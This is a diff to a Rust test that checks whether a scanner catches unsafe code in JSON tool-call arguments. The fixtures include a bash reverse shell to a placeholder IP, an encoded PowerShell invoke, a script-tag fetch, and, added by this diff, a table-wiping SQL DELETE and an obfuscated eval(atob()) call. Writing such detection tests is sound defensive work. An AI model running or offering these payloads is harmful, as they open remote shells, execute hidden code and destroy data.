@@ -100,6 +100,8 @@ fn r_3_unsafe_code_in_arguments_of_tools_is_seen() {
         r#"{"command":"bash -i >& /dev/tcp/192.0.2.1/443 0>&1"}"#,
         r#"{"ps":"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"}"#,
         r#"{"html":"<script>fetch('//x')</script>"}"#,
+        r#"{"sql":"DELETE FROM Bürger;"}"#,
+        "{\"js\":\"eval\u{A0}(atob('eA=='))\"}",
     ];
     for arguments in unsafe_code {
         let (text, hits, stopped) = run(&all(Measure::Stop), Form::Json, [arguments]);
